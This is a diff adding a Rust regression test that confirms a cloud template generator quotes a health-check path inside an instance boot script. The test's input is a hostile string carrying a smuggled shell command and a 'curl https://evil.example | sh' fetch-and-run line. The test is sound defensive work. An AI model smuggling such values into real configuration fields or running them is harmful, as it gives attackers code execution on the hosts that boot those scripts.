@@ -465,3 +465,60 @@ fn bastion(stack: &mut Stack, parts: &Parts<'_>) -> Result<Bastion, SynthError> 
     }
     Bastion::new(stack, "Bastion", &bastion_props)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use hagen::blueprint::Synthesis;
+    use hagen::config::Config;
+    use hagen::template::json::to_json_value;
+    use serde_json::Value as Json;
+    use std::path::Path;
+
+    fn resources(s: &Synthesis) -> Json {
+        to_json_value(&s.template.to_expr())["Resources"].clone()
+    }
+
+    /// Regression: a `health_check_path` of `"; curl ... | sh;` was pasted
+    /// into the root boot script unquoted. `hagen.toml` refuses such a path
+    /// now, but a library user can fill `Resolved::config` in without that
+    /// check and synthesize; the template filter still makes the path one
+    /// shell word, so the script asks curl for it and runs nothing.
+    #[test]
+    fn a_health_check_path_with_shell_syntax_is_quoted_when_validation_is_bypassed() {
+        let config = Config::parse::<SwiftCodeConfig>(
+            Path::new("hagen.toml"),
+            "[environments.stage.blueprint]\ncfn_signal = true\n",
+        )
+        .expect("valid configuration");
+        let mut resolved =
+            blueprint::resolve(&SwiftCode, &config, Some("stage")).expect("resolves");
+        let hostile = "/\"; touch /tmp/pwned; echo \"$(id)`id`'; curl https://evil.example | sh #";
+        resolved.config.health_check_path = hostile.to_owned();
+        let s = blueprint::synthesize(&SwiftCode, &resolved).expect("builds without the check");
+        let r = resources(&s);
+        let sub = &r["AppLaunchTemplate"]["Properties"]["LaunchTemplateData"]["UserData"]["Fn::Base64"]
+            ["Fn::Sub"];
+        let script = sub[0]
+            .as_str()
+            .or_else(|| sub.as_str())
+            .expect("the boot script's text");
+        let line = script
+            .lines()
+            .find(|l| l.starts_with("health_url="))
+            .expect("the health probe's URL");
+        // What the shell makes of that line: the URL, hostile path and all,
+        // and nothing else printed or run.
+        let out = std::process::Command::new("/bin/sh")
+            .arg("-c")
+            .arg(format!("{line}\nprintf '%s' \"$health_url\""))
+            .output()
+            .expect("/bin/sh runs");
+        assert!(out.status.success(), "{out:?}");
+        assert_eq!(
+            String::from_utf8_lossy(&out.stdout),
+            format!("http://127.0.0.1:{SWIFTCODE_PORT}{hostile}")
+        );
+        assert!(out.stderr.is_empty(), "{out:?}");
+    }
+}
